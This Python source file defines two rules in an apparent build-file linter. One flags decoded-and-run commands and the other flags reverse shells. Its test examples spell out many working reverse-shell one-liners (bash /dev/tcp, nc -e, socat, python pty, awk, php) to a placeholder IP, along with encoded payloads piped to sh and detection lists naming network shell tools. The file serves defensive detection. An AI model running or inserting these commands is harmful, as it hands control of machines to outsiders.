"""Commands that nobody writes into a build without meaning harm: hidden programs, and shells for strangers."""

from __future__ import annotations

import re
from collections.abc import Iterator

from capdrop import RUNNERS, Bad, Command, Finding, Good, Script, Severity, rule

DECODERS = {
    "base64": ("-d", "-D", "--decode"), "gbase64": ("-d", "-D", "--decode"), "base32": ("-d", "--decode"), "basenc": ("-d", "--decode"),
    "xxd": ("-r",), "uudecode": (),
}  # fmt: skip
"""Programs that turn text back into what it stands for, and the options with which they do."""
PRINTERS = ("echo", "printf")
INLINE = {
    "python": (("b64decode", "b32decode", "fromhex", "unhexlify"), ("exec(", "eval(", "os.system(", "popen(")),
    "perl": (("decode_base64", "pack("), ("eval", "system", "exec")),
    "ruby": (("decode64", "unpack("), ("eval", "system", "exec")),
    "node": (("'base64'", '"base64"', "'hex'", '"hex"', "atob("), ("eval(", "Function(", "exec(", "execSync(")),
    "php": (("base64_decode", "hex2bin"), ("eval(", "assert(", "system(", "exec(")),
}
"""By language: the calls that decode, and those that run text."""
SPELLED = re.compile(r"\\x(?:[46][1-9a-fA-F]|[57][0-9aA])|\\0?1[0-7][0-7]")
"""A letter that is written as its number, in base 16 or 8."""

SHELLS = frozenset({"sh", "bash", "dash", "ash", "zsh", "ksh"})
NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
TALKERS = NETCATS | {"telnet", "socat"}
"""Programs that connect what they read and write to another machine."""
AWKS = frozenset({"awk", "gawk"})
AWK_NET_FILES = ("/inet/tcp/", "/inet4/tcp/", "/inet6/tcp/", "/inet/udp/")
"""gawk's manual, Using gawk for Network Programming."""
MAKES_PIPES = frozenset({"mkfifo", "mknod"})
NET_FILES = ("/dev/tcp/", "/dev/udp/")
"""bash(1), Redirection: a path that is a connection."""
SOCKETS = {
    "python": ("socket", "connect("),
    "perl": ("Socket", "connect("),
    "ruby": ("TCPSocket",),
    "php": ("fsockopen",),
    "node": ("net", "connect("),
    "lua": ("socket", "connect("),
    "pwsh": ("TCPClient",),
    "powershell": ("TCPClient",),
}
"""By language: what a program that connects to another machine says."""
GIVES_SHELL = ("/bin/sh", "/bin/bash", "sh <&", "sh -i", "pty.spawn", "'sh'", '"sh"', "'bash'", '"bash"', "iex ")


@rule(
    "encoded-command-executed",
    severity=Severity.HIGH,
    references="ATT&CK T1027 · ATT&CK T1140 · ATT&CK T1059.004",
    programs=RUNNERS | set(DECODERS) | {"openssl"},
    examples=(
        Bad(
            "Dockerfile",
            r"""
            FROM debian:13
            RUN echo ZWNobyBoaQo= | base64 -d | «sh» && echo 6563686f | xxd -r -p | sudo «bash» -s
            RUN «eval» "$(echo ZWNobyBoaQo= | base64 --decode)" && «sh» -c "$(openssl enc -base64 -d < /x)" && «bash» <(base64 -di /y)
            RUN «python3» -c "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"
            RUN printf '\x65\x63\x68\x6f\x20\x68\x69\x0a' | «sh» && echo -e '\0145cho hi' | «sh» && «eval» "$(printf '\x65cho hi')"
            RUN echo ZWNobyBoaQo= | «base64» -d > /tmp/a.sh && chmod +x /tmp/a.sh && /tmp/a.sh
            """,
        ),
        Bad("compose.yaml", "services: {app: {image: 'debian:13', command: sh -c 'echo ZWNobyBoaQo= | base64 -d | «bash»'}}"),
        Bad(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - name: web
                  image: debian:13
                  command: [«perl», -e, 'use MIME::Base64; eval decode_base64("cHJpbnQgMQ==")']
            """,
        ),
        Good(
            "Dockerfile",
            r"""
            FROM debian:13
            ARG KEY
            RUN echo $KEY | base64 -d > /key.pem && echo aGkK | base64 -d && base64 -d /a.sh.b64 > /a.sh && cat /a.sh
            RUN echo "echo aGkK | base64 -d | sh" > /notes && cat script | base64 | sh -c 'cat' && echo hi | sh
            RUN python3 -c "import base64; print(base64.b64decode('aGkK'))" && printf '\x1b[31m' | sh
            """,
        ),
        Good("compose.yaml", "services: {app: {image: 'debian:13', command: sh -c 'echo $$CERT | base64 -d > /cert && exec app'}}"),
        Good(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [python3, -c, 'import base64; print(1)']}
            """,
        ),
    ),
)
def encoded_command_executed(subject: Command | Script) -> Iterator[Finding]:
    """A program is decoded and run, so that nobody can read what it does.

    Nothing in a build needs this, and it is how planted code hides from review. Write the commands as they are, or copy a script
    file. (Decoding data into a file is let be.)
    """
    if isinstance(subject, Script):
        for command in subject.commands:
            if command.redirects and _decodes(command):
                written = next((word for operator, word in command.redirects if operator in (">", ">>", ">|") and word is not None), None)
                if written is not None and subject.runs(written.text, command) is not None:
                    yield command.finding(command.words[0].span, f"what `{command.name}` decodes to `{written.text}` is run")
        return
    source = next((source for source in subject.program_sources() if _decodes(source) or _escaped(source)), None)
    if source is not None:
        yield subject.finding(subject.words[0].span, f"`{subject.name}` runs what `{source.name}` decodes")
    elif _decodes_and_runs(subject):
        yield subject.finding(subject.words[0].span, f"`{subject.name}` runs a program that is encoded in its own text")


def _decodes(command: Command) -> bool:
    if command.name == "openssl":
        words = [word.text for word in command.words]
        return "-d" in words and ("base64" in words or "-base64" in words or "-a" in words)
    options = DECODERS.get(command.name)
    return options is not None and (not options or command.option(*options) is not None)


def _escaped(command: Command) -> bool:
    """Whether a command prints a text whose letters are spelled in numbers."""
    return command.name in PRINTERS and any(SPELLED.search(word.text) is not None for word in command.operands)


def _language(command: Command) -> str:
    return command.name.partition(".")[0].rstrip("0123456789").removesuffix("js")


def _decodes_and_runs(command: Command) -> bool:
    """Whether an interpreter is given a program that decodes text and runs that."""
    language = _language(command)
    if language in ("pwsh", "powershell"):
        return any(word.text.lower() in ("-encodedcommand", "-enc", "-ec") for word in command.words)
    if language not in INLINE:
        return False
    program = command.inline_program
    decode, run = INLINE[language]
    return program is not None and any(call in program.text for call in decode) and any(call in program.text for call in run)


@rule(
    "reverse-shell",
    severity=Severity.CRITICAL,
    references="ATT&CK T1059.004 · ATT&CK T1571 · ATT&CK T1095",
    programs=RUNNERS | NETCATS | AWKS | {"socat", ""},
    examples=(
        Bad(
            "Dockerfile",
            r"""
            FROM debian:13
            RUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1
            RUN exec 5<>/dev/tcp/203.0.113.5/4444; «sh» <&5 >&5 2>&5
            RUN «nc» -e /bin/sh 203.0.113.5 4444 & mkfifo /tmp/f; cat /tmp/f | «sh» -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f
            RUN «socat» TCP:203.0.113.5:4444 EXEC:'bash -li',pty,stderr
            RUN «python3» -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);pty.spawn("sh")'
            RUN exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do «$line» 2>&5 >&5; done
            RUN mkfifo /tmp/s; «/bin/sh» -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > /tmp/s
            RUN «awk» 'BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while (1) {s |& getline c; while ((c |& getline) > 0) print $0 |& s}}'
            RUN echo '«bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1' >> /root/.bashrc
            RUN «php» -r '$s=fsockopen("203.0.113.5",4444);exec("sh <&3 >&3 2>&3");'
            CMD ["sh", "-c", "ncat 203.0.113.5 4444 | «bash»"]
            """,
        ),
        Bad("compose.yaml", "services: {app: {image: 'debian:13', command: bash -c '«bash» -i >& /dev/tcp/203.0.113.5/443 0>&1'}}"),
        Bad(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [«nc», 203.0.113.5, '4444', -e, /bin/bash]}
            """,
        ),
        Good(
            "Dockerfile",
            """
            FROM debian:13
            RUN echo "bash -i >& /dev/tcp/203.0.113.5/4444" > /notes && nc -z db 5432 && echo ping | nc -w 1 db 80
            RUN timeout 1 bash -c 'echo > /dev/tcp/db/5432' && bash -c '</dev/tcp/db/5432' && nc -lk -p 80 -e /srv/answer
            RUN sh < /setup.sh | nc logs 514 && awk 'BEGIN {s = "/inet/tcp/0/db/80"; print "GET" |& s; s |& getline a}'
            RUN mkfifo /tmp/s; sh -i < /dev/null | openssl s_client -connect db:443 > /tmp/s
            RUN socat TCP-LISTEN:80,fork EXEC:/srv/answer & python3 -c 'import socket; socket.create_connection(("db", 5432))'
            HEALTHCHECK CMD exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET / HTTP/1.1\\r\\n' >&3; cat <&3 | grep -q ok
            """,
        ),
        Good("compose.yaml", "services: {app: {image: 'debian:13', healthcheck: {test: [CMD, bash, -c, ':> /dev/tcp/127.0.0.1/80']}}}"),
        Good(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [nc, -l, -p, '80']}
                - {name: echo, image: 'busybox:1', command: [nc, -lk, -p, '80', -e, sh, -c, 'while read line; do echo "$line"; done']}
            """,
        ),
    ),
)
def reverse_shell(command: Command) -> Iterator[Finding]:
    """A shell is handed to another machine.

    Whoever is at the other end types commands that run here. No build and no service needs this: find out who put it there, and
    treat what has run it as taken over.
    """
    if _hands_over(command):
        yield command.finding(command.words[0].span, f"`{command.words[0].text}` hands a shell to another machine")


def _hands_over(command: Command) -> bool:
    name = command.name
    if name in SHELLS:
        return _connected(command)
    if not name:  # `cat <&5 | while read line; do $line >&5; done`
        runs_a_variable = bool(command.words) and command.words[0].text.startswith("$")
        return runs_a_variable and any(
            given == ">&" and word is not None and _opened(command, word.text) for given, word in command.redirects
        )
    if name in NETCATS:
        executes = command.option("-e", "-c", "--exec", "--sh-exec") is not None
        texts = [word.text for word in command.words[1:]]  # `-e sh -c '...'` answers with one program
        return executes and any(_names_shell(text) and after != "-c" for text, after in zip(texts, [*texts[1:], ""], strict=True))
    if name == "socat":
        texts = [word.text.lower() for word in command.operands]
        executes = any(text.startswith(("exec:", "system:")) and _names_shell(text.partition(":")[2]) for text in texts)
        return executes and any(text.startswith(("tcp", "udp", "openssl", "ssl")) for text in texts)
    if name in AWKS:
        return any(word.text.count("|& getline") > 1 and any(file in word.text for file in AWK_NET_FILES) for word in command.operands)
    language = _language(command)
    if language not in SOCKETS:
        return False
    program = command.inline_program
    if program is None or not all(word in program.text for word in SOCKETS[language]):
        return False
    return any(word in program.text for word in GIVES_SHELL)


def _connected(command: Command) -> bool:
    """Whether a shell that is given no script reads from, or writes to, another machine."""
    if not command.reads_its_program:
        return False
    for operator, word in command.redirects:
        if word is not None and (word.text.startswith(NET_FILES) or (operator in ("<&", ">&") and _opened(command, word.text))):
            return True
    if any(feeder.name in TALKERS for feeder in command.upstream()):
        return True
    reader = command.writes_to
    talks = reader is not None and (reader.name in TALKERS or (reader.name == "openssl" and reader.subcommand == "s_client"))
    return talks and (bool(command.feeders) or _reads_pipe(command))


def _reads_pipe(command: Command) -> bool:
    """Whether it reads a named pipe that the same script makes."""
    files = [word.text for operator, word in command.redirects if operator == "<" and word is not None]
    makers = [other for other in command.siblings if other.name in MAKES_PIPES] if files else []
    return any(word.text in files for maker in makers for word in maker.operands)


def _opened(command: Command, number: str) -> bool:
    """Whether the same script has opened a connection under this number: `exec 5<>/dev/tcp/...`."""
    if number in ("0", "1", "2") or not number.isdigit():
        return False
    return command.siblings.some(_connects)


def _connects(command: Command) -> bool:
    return any(word is not None and word.text.startswith(NET_FILES) for _, word in command.redirects)


def _names_shell(text: str) -> bool:
    first = text.split(",")[0].split()
    return bool(first) and first[0].strip("\"'").rpartition("/")[2] in SHELLS
